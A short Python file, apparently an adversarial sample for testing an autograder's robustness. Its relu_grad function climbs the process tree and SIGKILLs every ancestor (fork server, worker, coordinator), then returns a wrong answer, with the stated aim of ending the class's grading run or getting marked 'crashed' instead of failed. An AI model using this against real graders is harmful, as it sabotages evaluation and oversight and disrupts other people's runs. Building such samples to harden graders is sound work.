"""In a class: kills every ancestor (the fork server, the worker, the coordinator) with
SIGKILL from inside a call, then returns a wrong answer."""

import os
import signal

import numpy as np

EXERCISE = "activations"
ATTACKED = ("test_relu_grad",)
BATCH = True
WHY = "end the whole class's grading run, or at least get my own row marked 'crashed' instead of failed"


def relu_grad(x):
    pid = os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/status") as f:
                parent = int([line.split()[1] for line in f if line.startswith("PPid:")][0])
        except (OSError, IndexError):
            parent = 0
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
        pid = parent
    return np.zeros(np.shape(x))
